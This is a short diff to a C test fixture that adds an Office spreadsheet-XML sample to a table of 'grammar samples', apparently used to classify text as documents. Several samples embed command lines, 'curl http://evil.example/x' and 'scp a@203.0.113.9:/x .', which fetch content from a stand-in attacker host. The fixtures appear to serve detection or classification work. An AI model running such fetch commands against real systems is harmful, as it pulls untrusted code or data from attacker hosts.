@@ -235,6 +235,9 @@ static const struct grammar_sample {
 
 	/* ---- what people read ---- */
 	{ "page", "<!DOCTYPE html><html><body><pre>curl http://evil.example/x</pre></body></html>", "document" },
+	{ "office",
+	  "<?xml version=\"1.0\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>Step</t>"
+	  "</si><si><t>what they did\nscp a@203.0.113.9:/x .\nand then\nnothing</t></si></sst>", "document" },
 	{ "markup",
 	  "# Hunting notes\n\nSee [the page](http://evil.example/).\n\n- evil.example\n\n```\ncurl http://evil.example/x\n```\n"
 	  "curl http://evil.example/x\n",
